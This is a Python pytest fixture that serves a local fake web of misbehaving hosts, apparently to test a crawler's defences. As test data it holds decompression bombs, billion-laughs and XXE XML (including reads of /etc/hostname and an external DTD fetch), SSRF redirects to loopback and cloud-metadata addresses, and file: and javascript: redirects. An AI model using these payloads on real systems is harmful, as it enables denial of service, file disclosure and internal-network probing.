"""A web that means no good: each host misbehaves in its own way. One loopback port, the HTTP proxy of all of them.

``good.test`` is an honest site among them, by which a test sees whether the others have held a crawl up.
"""

from __future__ import annotations

import gzip
import html
import socket
import socketserver
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from urllib.parse import urlsplit

import brotli
import pytest
from backports import zstd
from web import article

MIB = 1 << 20
BOMB = b"<p>x</p>" * (64 * MIB // 8)
"""Four times what a page may have, and a few kilobytes when packed."""

STORIES = 6
"""Stories of the honest site."""


@dataclass(kw_only=True)
class Visit:
    """A request, and when it came and its connection ended."""

    host: str
    path: str
    begin: float
    end: float | None = None


class HostileWeb:
    """Answers by host: see ``HOSTS``."""

    def __init__(self) -> None:
        self.visits: list[Visit] = []
        self.over = threading.Event()
        web = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                with suppress(OSError):
                    line = self.rfile.readline().decode("latin-1")
                    while self.rfile.readline().strip():
                        pass
                    if line:
                        web.answer(line.split(" ")[1], self.connection)

        class Server(socketserver.ThreadingTCPServer):
            daemon_threads = True
            allow_reuse_address = True

        self.server = Server(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def proxy(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def answer(self, address: str, connection: socket.socket) -> None:
        parts = urlsplit(address)
        path = parts.path + (f"?{parts.query}" if parts.query else "")
        visit = Visit(host=parts.hostname or "", path=path, begin=time.monotonic())
        self.visits.append(visit)
        try:
            if visit.path == "/robots.txt" and visit.host not in ROBOTS:
                send(connection, b"", status=404)
            elif visit.path == "/feed.xml" and visit.host not in FEEDS:
                send(connection, feed(visit.host))
            else:
                HOSTS.get(visit.host, good)(connection, path, self.over)
        finally:
            visit.end = time.monotonic()

    def of(self, host: str) -> list[Visit]:
        return [visit for visit in self.visits if visit.host == host]


def send(connection: socket.socket, body: bytes, status: int = 200, **headers: str) -> None:
    """A whole answer."""
    named = {"Content-Type": "text/html", "Content-Length": str(len(body)), "Connection": "close"}
    named |= {name.replace("_", "-"): value for name, value in headers.items()}
    head = "".join(f"{name}: {value}\r\n" for name, value in named.items())
    connection.sendall(f"HTTP/1.1 {status} So be it\r\n{head}\r\n".encode("latin-1") + body)


def feed(host: str) -> bytes:
    links = TRAPS if host == "traps.test" else [f"http://{host}/{number}" for number in range(COUNT.get(host, 1))]
    items = "".join(f"<item><title>T</title><link>{html.escape(link)}</link></item>" for link in links)
    return f'<rss version="2.0"><channel><title>T</title>{items}</channel></rss>'.encode()


def good(connection: socket.socket, path: str, over: threading.Event) -> None:
    send(connection, article(f"An honest story, number {path}").encode())


def never(connection: socket.socket, path: str, over: threading.Event) -> None:
    """Takes the request and says nothing."""
    over.wait(60)


def drip(connection: socket.socket, path: str, over: threading.Event) -> None:
    """A byte now and then, for ever."""
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n")
    while not over.wait(0.1):
        connection.sendall(b"x")


def endless(connection: socket.socket, path: str, over: threading.Event) -> None:
    """As much as the line takes, for ever."""
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n")
    while not over.is_set():
        connection.sendall(b"<p>more</p>" * 5000)


def head(connection: socket.socket, path: str, over: threading.Event) -> None:
    """Headers without end."""
    connection.sendall(b"HTTP/1.1 200 OK\r\n")
    while not over.is_set():
        connection.sendall(b"X-More: " + b"y" * 1000 + b"\r\n")


def bombs(connection: socket.socket, path: str, over: threading.Event) -> None:
    """A few kilobytes that unpack to 64 MiB, in every coding, one of them packed twice."""
    coding, packed = PACKED[int(path.strip("/"))]
    send(connection, packed, Content_Encoding=coding)


def huge(connection: socket.socket, path: str, over: threading.Event) -> None:
    """Announces more than a page may have."""
    with suppress(OSError):
        send(connection, b"x", Content_Length=str(1 << 40))


def torn(connection: socket.socket, path: str, over: threading.Event) -> None:
    """Breaks off in the middle."""
    send(connection, b"<p>half of", Content_Length="5000")


def babble(connection: socket.socket, path: str, over: threading.Event) -> None:
    """Speaks something else."""
    connection.sendall(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")


def wander(connection: socket.socket, path: str, over: threading.Event) -> None:
    """Redirects in a ring, to ever deeper places, and out of the web."""
    deeper = f"/1/deeper{path.removeprefix('/1')}"
    places = ["/0", deeper, "ftp://good.test/x", "file:///etc/passwd", "javascript:alert(1)", "gopher://good.test/"]
    number = int(path.strip("/").partition("/")[0])
    send(connection, b"", status=302, Location=places[number])


def inside(connection: socket.socket, path: str, over: threading.Event) -> None:
    """Redirects into private networks, in every spelling."""
    send(connection, b"", status=302, Location=PRIVATE[int(path.strip("/"))])


def xml(connection: socket.socket, path: str, over: threading.Event) -> None:
    """Feeds and sitemaps that grow, look into files, or ask elsewhere when they are parsed."""
    send(connection, XML.get(path, b""), status=200 if path in XML else 404, Content_Type="application/xml")


def rules(connection: socket.socket, path: str, over: threading.Event) -> None:
    """A robots.txt of 2 MB of patterns, the first of which is meant."""
    if path == "/robots.txt":
        send(connection, b"User-agent: *\nDisallow: /1\n" + b"Disallow: /*a*a*a*a*a*a*a*b$\n" * 60_000)
    else:
        good(connection, path, over)


HOSTS: dict[str, Callable[[socket.socket, str, threading.Event], None]] = {
    "good.test": good,
    "never.test": never,
    "mute.test": never,
    "drip.test": drip,
    "endless.test": endless,
    "head.test": head,
    "bombs.test": bombs,
    "huge.test": huge,
    "torn.test": torn,
    "babble.test": babble,
    "wander.test": wander,
    "inside.test": inside,
    "xml.test": xml,
    "rules.test": rules,
    "tome.test": endless,
    "traps.test": good,
}
"""Host → how it answers for its stories."""
ROBOTS = frozenset({"never.test", "rules.test", "tome.test"})
"""Hosts that misbehave over robots.txt already."""
FEEDS = frozenset({"xml.test"})
"""Hosts that misbehave over their feeds already."""
PRIVATE = [
    "http://127.0.0.1:1/",
    "http://localhost:1/",
    "http://[::1]:1/",
    "http://[::ffff:127.0.0.1]:1/",
    "http://2130706433:1/",
    "http://0x7f.1:1/",
    "http://10.0.0.1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://0.0.0.0:1/",
]
"""Where ``inside.test`` leads."""
_GZIP = gzip.compress(BOMB)
PACKED = [
    ("gzip", _GZIP),
    ("deflate", zlib.compress(BOMB)),
    ("br", brotli.compress(BOMB, quality=1)),
    ("zstd", zstd.compress(BOMB)),
    ("gzip, gzip", gzip.compress(_GZIP)),
]
"""Codings and bombs."""
TRAPS = [
    "http://traps.test/" + "deep/" * 10_000 + "story",
    "http://traps.test/" + "a/b/" * 6 + "a-long-story-of-the-day",
    "http://traps.test/" + "/".join(str(number) for number in range(150)),
    "http://traps.test/story;jsessionid=0123456789abcdef0123456789abcdef",
    "http://traps.test/story-of-the-day?PHPSESSID=0123456789abcdef0123456789abcdef",
    "http://traps.test/calendar/2126/05/02/",
    "http://traps.test/an-honest-story-among-them",
]
"""What the feed of ``traps.test`` names."""
COUNT = {"good.test": STORIES, "bombs.test": len(PACKED), "wander.test": 6, "rules.test": 2, "inside.test": 9}
"""Host → stories in its feed, where it is not one."""
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_ITEM = "<item><title>{0}</title><link>http://xml.test/story</link></item>"
XML = {
    "/laughs.xml": f'<!DOCTYPE rss [<!ENTITY l0 "ha">{_LAUGHS}]><rss version="2.0"><channel><title>T</title>'
    f"{_ITEM.format('&l9;')}</channel></rss>".encode(),
    "/laughs-map.xml": f'<!DOCTYPE urlset [<!ENTITY l0 "ha">{_LAUGHS}]><urlset><url><loc>http://xml.test/&l9;</loc>'
    f"</url></urlset>".encode(),
    "/files.xml": b'<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/hostname">]><rss version="2.0"><channel>'
    b"<title>T</title><item><title>&f;</title><link>http://xml.test/file-&f;</link></item></channel></rss>",
    "/files-map.xml": b'<!DOCTYPE urlset [<!ENTITY f SYSTEM "file:///etc/hostname">]><urlset><url>'
    b"<loc>http://xml.test/in-the-map-&f;</loc></url></urlset>",
    "/calls.xml": b'<!DOCTYPE rss SYSTEM "http://xml.test/leak.dtd" [<!ENTITY % p SYSTEM "http://xml.test/leak">%p;]>'
    b'<rss version="2.0"><channel><title>T</title></channel></rss>',
    "/packed-map.xml.gz": gzip.compress(
        b"<urlset>" + b"<url><loc>http://xml.test/tag/x</loc></url>" * (200 * MIB // 40) + b"</urlset>", 1
    ),
    "/large-map.xml": b"<urlset>"
    + (b"<!-- " + b"x" * 1000 + b" -->") * 18_000
    + b"<url><loc>http://xml.test/2026/05/rain"
    b"-in-a-large-map</loc></url></urlset>",
    "/deep-map.xml": b"<urlset>" + b"<a>" * 500_000,
}
"""Documents of ``xml.test``."""


@pytest.fixture(scope="module")
def hostile() -> Iterator[HostileWeb]:
    web = HostileWeb()
    yield web
    web.over.set()
    web.server.shutdown()
